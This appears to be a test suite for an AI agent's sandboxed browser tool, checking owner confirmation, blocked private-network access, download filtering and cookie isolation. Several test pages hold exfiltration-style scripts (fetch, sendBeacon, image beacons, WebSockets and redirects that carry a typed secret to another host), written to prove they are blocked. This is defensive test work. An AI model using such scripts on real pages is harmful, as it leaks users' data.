import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { execFileSync } from 'node:child_process'
import { createSocket, type Socket } from 'node:dgram'
import { readdirSync, readFileSync } from 'node:fs'
import { createServer, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { after, before, beforeEach, describe, it } from 'node:test'
import { MISSING } from './peers/browser.ts'
import { resultsIn, say, startModelApi, use, type ModelApi, type Reply } from './peers/model-api.ts'
import { startSite, type Site } from './peers/site.ts'
import { startSteward, type Chat, type Frame, type Steward } from './steward.ts'

const SECRET = 'plum-tree-behind-the-house'

let api: ModelApi
let site: Site
/** Allowed as an address, but nothing of it was ever decided on. */
let other: Site
/** A private address that no tool may reach. */
let inside: Site
let steward: Steward

before(async () => {
  if (MISSING) return
  api = await startModelApi()
  ;[site, other, inside] = await Promise.all([startSite(), startSite(), startSite()])
  steward = await startSteward({ env: { ...api.env, ALLOWED_PRIVATE_HOSTS: `${site.host},${other.host}` } })
})

after(async () => {
  if (MISSING) return
  await steward[Symbol.asyncDispose]()
  for (const peer of [site, other, inside, api]) await peer[Symbol.asyncDispose]()
})

beforeEach(() => {
  if (MISSING) return
  for (const peer of [site, other, inside]) {
    peer.clear()
    peer.seen.length = 0
  }
  site.page('/', '<p>Welcome to the shop.</p>')
})

const browse = (operation: string, args: object = {}): Reply => use('browser', { operation, ...args })
const open = (path = '/'): Reply => browse('fetch_page', { url: path.startsWith('http') ? path : site.url + path })

/** What came back from the last call that the model had made by then. */
const told = (request: number): string => resultsIn(api.requests[request])[0]!.text
const lastTold = (): string => told(api.requests.length - 1)
const refOf = (name: string): string => {
  const ref = new RegExp(`${name}[^\\n]*\\[ref=(e\\d+)\\]`).exec(lastTold())?.[1]
  assert.ok(ref, `no ref of ${name} in ${lastTold()}`)
  return ref
}

type Answers = boolean | ((question: Frame) => boolean)
type Step = Reply | (() => Reply)

/** One message of the owner; the model does these in turn, and the owner answers what is asked. */
async function asks(chat: Chat, content: string, steps: Step[], answer: Answers = true): Promise<Frame[]> {
  let next = 0
  api.answer(() => {
    const step = steps[next++] ?? say('The end.')
    return typeof step === 'function' ? step() : step
  })
  chat.send({ type: 'message', content })
  const questions: Frame[] = []
  for (;;) {
    const frame = await chat.next(
      ({ type }) => type === 'confirmation_required' || type === 'done' || type === 'error',
      150_000,
    )
    if (frame.type === 'error') throw new Error(`${frame.error}\n${steward.output().slice(-3000)}`)
    if (frame.type === 'done') return questions
    questions.push(frame)
    const approved = typeof answer === 'function' ? answer(frame) : answer
    chat.send({ type: 'confirm', call_id: frame.call_id, approved })
  }
}

async function newChat(id: string = randomUUID()): Promise<Chat> {
  const chat = await steward.owner.chat(id)
  await chat.next('models')
  return chat
}

const chromiums = (): string[] =>
  execFileSync('ps', ['-eo', 'pid,ppid,args'], { encoding: 'utf8' })
    .split('\n')
    .filter((line) => line.includes('--remote-debugging-pipe') && line.includes('playwright_chromiumdev_profile'))

const childrenOf = (pid: number): string[] => chromiums().filter((line) => line.trim().split(/\s+/)[1] === String(pid))

const file =
  (body: string, headers: Record<string, string>) =>
  (res: ServerResponse): void =>
    void res.writeHead(200, headers).end(body)

describe('the browser', { skip: MISSING }, () => {
  it('reads what a page only shows with its scripts, and its tree with refs', async () => {
    site.page('/late', '<div id=x></div><script>x.innerHTML = "<h2>Made later</h2><button>Buy</button>"</script>')
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/late online`, [open('/late'), browse('read_page')])
    assert.match(told(1), /Made later/)
    assert.match(told(2), /button "Buy" \[ref=e\d+\]/)
    await chat.close()
  })

  it('shows a picture to the model and to the owner', async () => {
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/ online`, [open(), browse('screenshot')])
    const { content } = api.requests[2]!.messages.at(-1)!
    const picture = content[0].content.find((part: any) => part.type === 'image')
    assert.equal(picture.source.media_type, 'image/jpeg')
    assert.deepEqual([...Buffer.from(picture.source.data, 'base64').subarray(0, 2)], [0xff, 0xd8])
    const { data_urls } = chat.frames.find(({ type }) => type === 'images')!
    assert.equal(data_urls[0], `data:image/jpeg;base64,${picture.source.data}`)
    await asks(chat, 'And now?', [])
    const again = JSON.stringify(api.requests[0]!.messages)
    assert.ok(again.includes(picture.source.data), 'the picture is still there in the next message')
    await chat.close()
  })

  it('asks once for a form, and not for each key of it', async () => {
    site.page('/form', '<form action="/sent"><label>Name <input name="n"></label><button>Send</button></form>')
    site.page('/sent', '<p>Thank you!</p>')
    const chat = await newChat()
    const questions = await asks(chat, `Fill ${site.url}/form in online`, [
      open('/form'),
      browse('read_page'),
      () => browse('fill', { ref: refOf('Name'), text: 'Anna' }),
      () => browse('click', { ref: refOf('Send') }),
    ])
    assert.equal(questions.length, 1)
    assert.match(
      questions[0]!.description,
      /^Write "Anna" into the ".*Name.*" on 127\.0\.0\.1:\d+\. A yes holds for this form/,
    )
    assert.match(lastTold(), /Thank you!/)
    assert.ok(site.seen.includes('/sent?n=Anna'))
    await chat.close()
  })

  it('does nothing in a page that the owner said no to', async () => {
    site.page('/form', '<form action="/sent"><label>Name <input name="n"></label><button>Send</button></form>')
    const chat = await newChat()
    await asks(
      chat,
      `Fill ${site.url}/form in online`,
      [open('/form'), browse('read_page'), () => browse('click', { ref: refOf('Send') })],
      false,
    )
    assert.match(lastTold(), /said no/)
    assert.ok(!site.seen.some((path) => path.startsWith('/sent')))
    await chat.close()
  })

  it('follows no redirect to a private address', async () => {
    site.redirect('/in', `${inside.url}/admin`)
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/in online`, [open('/in')])
    assert.match(lastTold(), new RegExp(`redirects to ${inside.url}/admin, which was not opened`))
    assert.deepEqual(inside.seen, [])
    await chat.close()
  })

  it('lets no script reach a private address, or another host once something was read', async () => {
    site.page(
      '/spy',
      `<p id=out>waiting</p><script>
        const tries = ['${inside.url}/f', '${other.url}/f'].map((url) => fetch(url, {mode: 'no-cors', method: 'POST', body: 'x'}).then(() => 'reached', () => 'refused'))
        new Image().src = '${inside.url}/i'
        navigator.sendBeacon('${other.url}/b', 'x')
        const ws = new Promise((done) => { const s = new WebSocket('${other.url.replace('http', 'ws')}/w'); s.onopen = () => done('reached'); s.onerror = () => done('refused') })
        Promise.all([...tries, ws]).then((all) => { out.textContent = 'came back: ' + all.join(' ') })
      </script>`,
    )
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/spy online`, [
      open('/spy'),
      browse('wait', { shows: 'came back' }),
      browse('read_page'),
    ])
    assert.match(lastTold(), /came back: refused refused refused/)
    assert.deepEqual([inside.seen, other.seen], [[], []])
    await chat.close()
  })

  it('takes pictures from elsewhere only while the policy would open them, and none once a form was filled in', async () => {
    other.page('/p.png', file('x', { 'content-type': 'image/png' }))
    site.page(
      '/shop',
      `<img src="${other.url}/p.png"><form><label>Name <input></label></form><script>
      document.querySelector('input').oninput = (e) => { new Image().src = '${other.url}/p.png?' + e.target.value }</script>`,
    )
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/shop online`, [
      open('/shop'),
      browse('read_page'),
      () => browse('fill', { ref: refOf('Name'), text: SECRET }),
      browse('wait', { seconds: 1 }),
    ])
    assert.deepEqual(other.seen, ['/p.png'])
    await chat.close()
  })

  it('does not leave its page for another host that nobody decided on', async () => {
    site.page('/links', `<a href="/home" onclick="location = '${other.url}/x?${SECRET}'; return false">Away</a>`)
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/links online`, [
      open('/links'),
      browse('read_page'),
      () => browse('click', { ref: refOf('Away') }),
    ])
    assert.deepEqual(other.seen, [])
    assert.match(lastTold(), /It wanted to go to .*, which was not opened/)
    assert.match(lastTold(), /link "Away"/)
    await chat.close()
  })

  it('acts on a trusted site as the owner, unasked while it read nothing else, and privately', async () => {
    const cookies: (string | undefined)[] = []
    const server = createServer((req, res) => {
      cookies.push(req.headers.cookie)
      const form = '<form action="/sent"><label>Name <input name="n"></label><button>Send</button></form>'
      res.writeHead(200, { 'content-type': 'text/html' }).end(`<h1>Hello Anna</h1>${form}`)
    })
    const url = await listening(server)
    await using house = await startSteward({
      env: { ...api.env, ALLOWED_PRIVATE_HOSTS: `${new URL(url).host},${site.host}` },
    })
    const { owner } = house
    await owner.post('/api/my/browser-trusted', { domain: '127.0.0.1' })
    const path = '/api/my/browser-trusted/127.0.0.1/session'
    const line = '127.0.0.1\tFALSE\t/\tFALSE\t0\tsid\tcookie-of-anna-0123'
    assert.equal((await owner.put(path, { cookies: 'example.org\tTRUE\t/\tTRUE\t0\ta\tb' })).status, 400)
    assert.equal((await owner.put(path, { cookies: line })).status, 200)
    const listed = await owner.get('/api/my/browser-trusted')
    assert.ok(listed.body[0].session_at)
    assert.ok(!listed.text.includes('cookie-of-anna'))
    const steps = [open(`${url}/`), browse('read_page'), () => browse('click', { ref: refOf('Send') })]
    const chat = await owner.chat(randomUUID())
    assert.deepEqual(await asks(chat, `Send it at ${url}/ online`, steps), [])
    assert.match(lastTold(), /Hello Anna/)
    assert.ok(
      cookies.every((cookie) => cookie === 'sid=cookie-of-anna-0123'),
      String(cookies),
    )
    assert.equal((await asks(chat, `Again at ${url}/`, steps)).length, 1, 'the conversation has read what others wrote')
    assert.equal((await owner.delete(path)).status, 200)
    const before = cookies.length
    await asks(chat, `Look at ${url}/`, [open(`${url}/`)])
    assert.equal(cookies[before], undefined)
    server.close()
  })

  it('opens a new window as the page one sees, and closes what a dialog says', async () => {
    site.page('/pop', '<a href="/window" target="_blank">Open</a><button onclick="alert(\'Hello you\')">Say</button>')
    site.page('/window', '<h2>In the window</h2>')
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/pop online`, [
      open('/pop'),
      browse('read_page'),
      () => browse('click', { ref: refOf('Say') }),
      () => browse('click', { ref: refOf('Open') }),
      browse('wait', { shows: 'In the window', seconds: 10 }),
      browse('read_page'),
    ])
    assert.match(told(3), /It showed a dialog \(alert\) "Hello you", which was dismissed/)
    assert.match(told(5) + told(6), /In the window/)
    await chat.close()
  })

  it('keeps a file that a page gives, as what others wrote', async () => {
    site.page('/list', '<a href="/report.csv" download>Report</a><a href="/run.desktop" download>Run</a>')
    site.page('/report.csv', file('a,b\n1,2\n', { 'content-type': 'text/csv', 'content-disposition': 'attachment' }))
    site.page('/run.desktop', file('[Desktop Entry]', { 'content-type': 'application/x-desktop', 'content-disposition': 'attachment' })) // prettier-ignore
    const chat = await newChat()
    await asks(chat, `Get the report of ${site.url}/list online`, [
      open('/list'),
      browse('read_page'),
      () => browse('click', { ref: refOf('Report') }),
      browse('wait', { seconds: 1 }),
      browse('read_page'),
      () => browse('click', { ref: refOf('"Run"') }),
      browse('wait', { seconds: 1 }),
    ])
    const results = [3, 4].map(told).join('\n')
    const path = /saved as "([^"]+)"/.exec(results)?.[1]
    assert.ok(path, results)
    assert.equal(readFileSync(path, 'utf8'), 'a,b\n1,2\n')
    assert.match([6, 7].map(told).join('\n'), /which was not kept: .*name that systems act on/)
    const { body } = await steward.owner.get('/api/my/files?path=/Downloads')
    assert.deepEqual(
      body.entries.map(({ name }: { name: string }) => name),
      ['report.csv'],
    )
    assert.deepEqual(readdirSync(join(steward.dataDir, 'browser')), [])
    await chat.close()
  })

  it('gives each run cookies of its own', async () => {
    const cookies: (string | undefined)[] = []
    const server = createServer((req, res) => {
      if (req.url === '/') cookies.push(req.headers.cookie)
      res.writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'seen=1; Max-Age=1000' }).end('<p>Hello.</p>')
    })
    const url = await listening(server)
    await using second = await startSteward({ env: { ...api.env, ALLOWED_PRIVATE_HOSTS: new URL(url).host } })
    const chat = await second.owner.chat(randomUUID())
    await asks(chat, `Look at ${url}/ online`, [open(`${url}/`), open(`${url}/`)])
    await asks(chat, `Look at ${url}/ again`, [open(`${url}/`)])
    assert.deepEqual(cookies, [undefined, 'seen=1', undefined])
    server.close()
  })

  it('has no WebRTC, no service workers and no way to UDP', async () => {
    const heard: string[] = []
    const udp = await listeningUdp(heard)
    site.page('/worker.js', file('self.onfetch = () => {}', { 'content-type': 'text/javascript' }))
    site.page(
      '/rtc',
      `<iframe srcdoc="<p>frame</p>"></iframe><p id=out>waiting</p><script>onload = async () => {
        const Peer = window.RTCPeerConnection ?? frames[0].RTCPeerConnection
        const kinds = []
        if (Peer) { const p = new Peer({iceServers: [{urls: 'stun:127.0.0.1:${udp.address().port}'}]}); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((r) => setTimeout(r, 1500)) }
        const worker = await navigator.serviceWorker?.register('/worker.js').then((r) => new Promise((done) => setTimeout(() => done(navigator.serviceWorker.controller || r?.active ? 'worker' : 'none'), 500)), () => 'none')
        out.textContent = 'came back: ' + [typeof Peer, worker ?? 'none'].join(' ') }</script>`,
    )
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/rtc online`, [open('/rtc'), browse('wait', { shows: 'came back', seconds: 8 }), browse('read_page')]) // prettier-ignore
    assert.match(lastTold(), /came back: undefined none/)
    assert.deepEqual(heard, [])
    assert.ok(!site.seen.includes('/worker.js'), 'no service worker is even fetched')
    udp.close()
    await chat.close()
  })

  it('says so when Chromium ends in the middle of a call, and begins anew', async () => {
    site.hang('/slow')
    const chat = await newChat()
    const asked = asks(chat, `Look at ${site.url}/slow online`, [open('/slow'), open('/')])
    for (let turn = 0; !site.seen.includes('/slow') && turn < 400; turn++) await sleep(50)
    for (const line of childrenOf(steward.process.pid!)) process.kill(Number(line.trim().split(/\s+/)[0]), 'SIGKILL')
    await asked
    assert.match(told(1), /Chromium ended in the middle of this|could not be opened/)
    assert.match(told(2), /Welcome to the shop/)
    await chat.close()
  })

  it('reads what there is of a page that never ends', async () => {
    site.page('/endless', (res) => {
      res.writeHead(200, { 'content-type': 'text/html' }).write('<h1>Beginning</h1>')
      const timer = setInterval(() => res.write('<p>more</p>'), 200)
      res.on('close', () => clearInterval(timer))
    })
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/endless online`, [open('/endless')])
    assert.match(lastTold(), /Beginning/)
    assert.match(lastTold(), /had not finished loading/)
    await chat.close()
  })

  it('lets go of a page that keeps Chromium busy for ever', async () => {
    site.page('/busy', '<button>Go</button><script>setTimeout(() => { for (;;); }, 1000)</script>')
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/busy online`, [
      open('/busy'),
      browse('wait', { seconds: 2 }),
      browse('read_page'),
      open('/'),
    ])
    assert.match(told(3), /Error: /)
    assert.match(told(4), /Welcome to the shop/)
    await chat.close()
  })

  it('ends with Steward, also where that is killed', async () => {
    const third = await startSteward({ env: { ...api.env, ALLOWED_PRIVATE_HOSTS: site.host } })
    const chat = await third.owner.chat(randomUUID())
    await asks(chat, `Look at ${site.url}/ online`, [open()])
    const mine = childrenOf(third.process.pid!).map((line) => line.trim().split(/\s+/)[0]!)
    assert.ok(mine.length > 0)
    await third.kill()
    const left = () => chromiums().filter((line) => mine.includes(line.trim().split(/\s+/)[0]!))
    for (let turn = 0; left().length > 0 && turn < 100; turn++) await sleep(100)
    assert.deepEqual(left(), [])
  })

  it('gives its page back when the run has ended', async () => {
    const chat = await newChat()
    await asks(chat, `Look at ${site.url}/ online`, [open()])
    await asks(chat, 'Go on', [browse('read_page')])
    assert.match(lastTold(), /No page is open in this run/)
    await chat.close()
  })
})

async function listening(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

async function listeningUdp(heard: string[]): Promise<Socket> {
  const socket = createSocket('udp4').on('message', (message) => heard.push(message.toString('hex')))
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve))
  return socket
}
